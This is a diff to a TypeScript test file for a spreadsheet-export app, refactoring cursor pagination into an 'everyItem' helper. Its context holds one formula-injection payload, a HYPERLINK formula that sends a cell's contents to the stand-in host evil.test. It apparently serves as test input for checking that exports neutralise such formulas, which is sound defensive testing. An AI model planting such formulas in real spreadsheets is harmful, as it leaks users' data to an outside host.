@@ -14,7 +14,7 @@ import { startTestApp, type TestApp } from "../harness.ts";
 import { startErp } from "../market/export/erp.ts";
 import { sheetsOf } from "../read_workbook.ts";
 import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
-import { bodyOf, refusalOf } from "./answers.ts";
+import { bodyOf, everyItem, refusalOf } from "./answers.ts";
 
 const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';
 
@@ -179,13 +179,7 @@ async function listed(caller: Caller, { path, isWhole }: FiledList, query: strin
     return rules.toSorted((a, b) => Number(a.priority) - Number(b.priority));
   }
   if (isWhole) return (await bodyOf(caller.get(`${path}?limit=200&${query}`), 200)).items;
-  const rows: Row[] = [];
-  for (let cursor = "";;) {
-    const page = await bodyOf(caller.get(`${path}?limit=2&${query}${cursor}`), 200);
-    rows.push(...page.items);
-    if (page.nextCursor === null) return rows;
-    cursor = `&cursor=${page.nextCursor}`;
-  }
+  return await everyItem(caller, `${path}?limit=2&${query}`);
 }
 
 async function agrees(app: TestApp, stranger: Caller, list: FiledList): Promise<void> {
